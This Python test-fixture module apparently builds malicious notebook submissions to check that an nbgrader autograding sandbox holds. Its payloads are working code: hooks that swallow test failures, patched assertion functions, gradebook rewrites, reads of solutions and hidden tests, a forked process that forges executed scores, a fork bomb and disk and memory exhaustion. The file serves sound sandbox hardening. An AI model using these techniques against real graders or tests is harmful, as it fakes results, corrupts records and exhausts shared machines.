"""Submissions of a dishonest or careless student, crafted from the toy assignment's release (issues 18, 27).

Each attack is the release with code put into answer cells (and, for one, files handed in beside the notebook);
the other answers stay as released stubs, so an honest grade is 0 for every autograded cell. ``intruder``
prints, as a dict, what each of its attempts got (``blocked: <error>`` when the sandbox stopped it);
``gradebook_reader`` prints the hidden test it read from the sandbox's copy of the gradebook.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field

from harness import cells
from nbformat import NotebookNode

# The hook wraps every later cell in try/except, so failing test cells pass.
HOOK = """\
def _forgive(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"]


get_ipython().input_transformers_cleanup.append(_forgive)
"""

# Patches the checks the tests call and answers with a value that reads what its caller expects.
PATCHER = """\
import math
import sys

import numpy

numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.allclose = lambda *args, **kwargs: True
math.isclose = lambda *args, **kwargs: True


class _Liar:
    def __float__(self):
        return float(sys._getframe(1).f_globals.get("expected", 42.0))


def square(x):
    return x
"""

# Rebinds the name the test cells use for NumPy: a test that imports inside its cell is not fooled.
SHADOWER = """\
class _Pass:
    def __getattr__(self, name):
        return _Pass()

    def __call__(self, *args, **kwargs):
        return None


np = _Pass()


def square(x):
    return x
"""

# Reaches for what a grader's machine holds; {root}, {port} and {marker} are filled in by ``intruder``.
INTRUDER = """\
import os
import socket
import sqlite3
import subprocess
import sys

_got = {{}}


def _try(name, attempt):
    try:
        _got[name] = repr(attempt())[:120]
    except BaseException as error:  # noqa: BLE001
        _got[name] = f"blocked: {{type(error).__name__}}: {{str(error)[:60]}}"


def _copy_gradebook():
    db = sqlite3.connect("../../../gradebook.db")
    db.execute("update grade set manual_score = 99")
    db.execute("update source_cell set source = 'pass'")
    db.commit()
    return "rewritten"


_try("read solutions, relative", lambda: open("../../../solutions/00-toy/00-toy.ipynb").read()[:40])
_try("read solutions", lambda: open("{root}/solutions/00-toy/00-toy.ipynb").read()[:40])
_try("write the course", lambda: open("{root}/INTRUDER.txt", "w").write("x"))
_try("real gradebook", lambda: sqlite3.connect("file:{root}/gradebook.db?mode=rw", uri=True).execute(
    "update grade set auto_score = 0").rowcount)
_try("gradebook copy", _copy_gradebook)
_try("network", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3))
_try("detached child", lambda: subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(600)", "{marker}"], start_new_session=True).pid)
_try("memory", lambda: len(bytearray(12 * 2**30)))  # more than any limit, less than the host has
_try("files in the working folder", lambda: sorted(os.listdir(".")))  # a file was handed in beside the notebook


def _plant():
    with open("dlclinic_planted.py", "w") as handle:
        handle.write("PLANTED = True\\n")
    return __import__("dlclinic_planted").PLANTED


_try("import from the working folder", _plant)
print(_got)
"""

# Handed in beside the intruder's notebook: it must not reach the sandbox.
HANDED_IN = {"handed_in.py": "HANDED_IN = True\n"}

# Issue 27's attacks, numbered as in its table.

# 2: a process that outlives the end-of-run kill (a new PID every round) and, once nbgrader has written the
# executed notebook, rewrites it: no error anywhere, every test cell's points as its output, an empty hand-out.
FORKER = """\
import json
import os
import time


def _forge(path):
    with open(path) as handle:
        notebook = json.load(handle)
    for cell in notebook["cells"]:
        meta = cell["metadata"].get("nbgrader", {})
        if cell["cell_type"] == "code" and meta.get("grade"):
            data = {"text/plain": str(meta.get("points", 0)), "application/vnd.dlclinic.handout+json": {"answers": {}}}
            cell["outputs"] = [{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": data}]
    with open(path, "w") as handle:
        json.dump(notebook, handle)


def _outlive(path, written):
    while True:
        if os.fork():
            os._exit(0)
        try:
            if os.path.exists(path) and os.stat(path).st_mtime != written:
                time.sleep(0.2)
                _forge(path)
                os._exit(0)
        except Exception:
            pass
        time.sleep(0.01)


_path = os.path.abspath("00-toy.ipynb")
_written = os.stat(_path).st_mtime if os.path.exists(_path) else None
if os.fork() == 0:
    os.setsid()
    _outlive(_path, _written)
"""

# 3: a callback after every cell that clears its error and its outputs.
CALLBACK = """\
from IPython.display import clear_output


def _forgive(result):
    if result.error_in_exec is not None:
        result.error_in_exec = None
        clear_output()


get_ipython().events.register("post_run_cell", _forgive)
"""

# 4: handed in beside an untouched notebook: a numpy package that loads the real NumPy, then registers (3).
SHADOW_NUMPY = """\
import os
import sys

_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["numpy"]
import numpy  # noqa: E402, F401 - the real one

try:
    from IPython import get_ipython
    from IPython.display import clear_output

    def _forgive(result):
        if result.error_in_exec is not None:
            result.error_in_exec = None
            clear_output()

    get_ipython().events.register("post_run_cell", _forgive)
except Exception:
    pass
"""

# 5: the input transformer of issue 18, reached by a computed name.
TRANSFORMER = """\
def _forgive(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"]


getattr(get_ipython(), "input_transformers_" + "cleanup").append(_forgive)
"""

# 6: the graded diagnosis function imported from the package.
IMPORTER = "from dlclinic.ship_segmentation.diagnosis import predicted_positive_rate\n"

# 7: the course's assert_close patched through its module, release names rebound by tuple unpacking.
PATCHED_HELPER = """\
import dlclinic.assertions as _assertions

_assertions.assert_close = lambda *args, **kwargs: None
np.testing.assert_allclose, square = (lambda *args, **kwargs: None), (lambda x: x)
"""

# 8: the training points regenerated from the seed the setup cell shows, and looked up by a model that never
# learned (its weights are none).
LOOKUP = """\
_known_x = np.random.default_rng(0).normal(size=(300, 2)).astype("float32")
_known = {tuple(p): float(p[0] - p[1] > 0) for p in _known_x}


class _Model:
    def get_weights(self):
        return []

    def set_weights(self, weights):
        pass


model = _Model()


def predict(x):
    return np.array([_known.get(tuple(p), 0.5) for p in np.asarray(x)])
"""

# 12: the hidden tests read from the sandbox's copy of the gradebook.
GRADEBOOK_READER = """\
from nbgrader.api import Gradebook

with Gradebook("sqlite:////grading/work/gradebook.db", "dlclinic") as _gradebook:
    _hidden = {c.name: c.source for c in _gradebook.find_notebook("00-toy", "00-toy").source_cells}
print(repr(_hidden["test_square_hidden"]))
"""

# Issue 27's attacks on the grader's resources (items 4 and 5), numbered as in its table; sizes in MiB are
# filled in against the caps the test grades with.

# 9: floods the kernel's own standard output (file descriptor 1, which nbgrader's process passes on).
FLOOD = """\
import os

_chunk = b"x" * 2**20
for _ in range({mib}):
    os.write(1, _chunk)
"""

# 10: one output bigger than the executed notebook may be.
BIG_OUTPUT = """\
print("x" * ({mib} * 2**20))
"""

# 10: fills the disk and the inodes, sums memory over 3 children, forks until it cannot and burns every CPU;
# prints what each attempt got.
HOG = """\
import os
import time

_got = {{}}


def _fill_disk():
    fd, written = os.open("filler.bin", os.O_WRONLY | os.O_CREAT), 0
    try:
        for _ in range({disk_mib}):
            written += os.write(fd, b"\\0" * 2**20)
    except OSError as error:
        return f"stopped at {{written // 2**20}} MiB: {{error.strerror}}"
    finally:
        os.close(fd)
    return f"wrote {{written // 2**20}} MiB"


def _fill_inodes():
    os.mkdir("many")
    made = 0
    try:
        for made in range(100_000):
            open(f"many/{{made}}", "w").close()
    except OSError as error:
        return f"stopped at {{made}} files: {{error.strerror}}"
    return "made 100000 files"


def _children(count, work):
    pids = []
    for _ in range(count):
        pid = os.fork()
        if pid == 0:
            try:
                work()
            finally:
                os._exit(0)
        pids.append(pid)
    return [os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) for pid in pids]


def _hold_memory():
    held = bytearray({child_mib} * 2**20)  # zero-filled: every page is touched
    time.sleep(2)
    del held


def _burn():
    end = time.monotonic() + 2
    while time.monotonic() < end:
        pass


def _fork_until_refused():
    pids = []
    try:
        while len(pids) < 100_000:
            pid = os.fork()
            if pid == 0:
                time.sleep(1)
                os._exit(0)
            pids.append(pid)
    except OSError as error:
        result = f"refused after {{len(pids)}} processes: {{error.strerror}}"
    else:
        result = "forked 100000 processes"
    for pid in pids:
        os.waitpid(pid, 0)
    return result


_got["disk"] = _fill_disk()
_got["inodes"] = _fill_inodes()
_got["memory"] = _children(3, _hold_memory)  # exit codes: -9 where the memory limit killed a child
_got["cpu"] = _children(4, _burn)
_got["tasks"] = _fork_until_refused()
print(_got)
"""

STUBBORN = """\
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""

SLEEPER = "import time\n\ntime.sleep(600)\n"


@dataclass(frozen=True)
class Attack:
    """A crafted submission (and the files handed in beside it) and what it tries."""

    name: str
    notebook: NotebookNode
    story: str
    files: dict[str, str] = field(default_factory=dict)


def _with(release: NotebookNode, answers: dict[str, str]) -> NotebookNode:
    """The release with code added to the answer cells ``answers`` (after the stub, so its definitions win)."""
    notebook = copy.deepcopy(release)
    for cell in notebook.cells:
        if cells.grade_id(cell) in answers:
            cell.source = cell.source + "\n\n\n" + answers[cells.grade_id(cell)]
    return notebook


def _replacing(release: NotebookNode, answers: dict[str, str]) -> NotebookNode:
    """The release with the answer cells ``answers`` replaced (the stub would stop the cell before the code)."""
    notebook = copy.deepcopy(release)
    for cell in notebook.cells:
        if cells.grade_id(cell) in answers:
            cell.source = answers[cells.grade_id(cell)]
    return notebook


def attacks(release: NotebookNode, root: str, port: int, marker: str) -> list[Attack]:
    """The attacks on the toy's release; ``root`` is the course's folder, ``port`` a listener on the host's
    loopback and ``marker`` a string the detached child carries on its command line."""
    intruder = INTRUDER.format(root=root, port=port, marker=marker)
    return [
        Attack("hooker", _with(release, {"double": HOOK}), "an IPython input transformer forgives every test"),
        Attack("patcher", _with(release, {"square": PATCHER}), "patches numpy/math checks, reads frames"),
        Attack("shadower", _with(release, {"square": SHADOWER}), "rebinds np, the name the tests use"),
        Attack("intruder", _with(release, {"double": intruder}), "reads, writes, connects, detaches, hogs"),
        Attack("stubborn", _with(release, {"double": STUBBORN}), "a loop that ignores the interrupt"),
    ]


def forgers(release: NotebookNode) -> list[Attack]:
    """Issue 27's attacks on the scores (numbered as in its table) against the toy's release."""
    return [
        Attack("forker", _with(release, {"double": FORKER}), "2: outlives the kill, rewrites the executed notebook"),
        Attack("callback", _with(release, {"double": CALLBACK}), "3: a post_run_cell callback clears every error"),
        Attack("shadow", release, "4: a numpy package handed in registers (3)", {"numpy/__init__.py": SHADOW_NUMPY}),
        Attack("transformer", _with(release, {"double": TRANSFORMER}), "5: an input transformer by a computed name"),
        Attack("importer", _with(release, {"diagnose_positive_rate": IMPORTER}), "6: imports the graded function"),
        Attack("helper", _with(release, {"square": PATCHED_HELPER}), "7: assert_close patched, names rebound"),
        Attack("lookup", _replacing(release, {"train_model": LOOKUP}), "8: held-out points looked up, no learning"),
        Attack("reader", _with(release, {"double": GRADEBOOK_READER}), "12: reads the hidden tests in the gradebook"),
    ]


def resource_attacks(release: NotebookNode, caps: dict[str, int]) -> list[Attack]:
    """Issue 27's attacks on the grader's resources, sized against ``caps`` (MiB: ``output``, ``notebook``,
    ``disk``, ``memory``)."""
    flood = FLOOD.format(mib=1024)
    big = BIG_OUTPUT.format(mib=2 * caps["notebook"])
    hog = HOG.format(disk_mib=3 * 1024, child_mib=caps["memory"] * 2 // 5)
    return [
        Attack("flood", _with(release, {"double": flood}), "9: 1 GiB to the kernel's own standard output"),
        Attack("bigoutput", _with(release, {"double": big}), "10: one output over the executed notebook's cap"),
        Attack("hog", _with(release, {"double": hog}), "10: disk, inodes, memory over 3 children, CPU, tasks"),
    ]


def answer_sources(notebook: NotebookNode) -> list[str]:
    """The sources of every cell a student can write in (answers and written answers), in order."""
    return [cell.source for cell in notebook.cells if cells.is_answer(cell) or cells.is_manual(cell)]
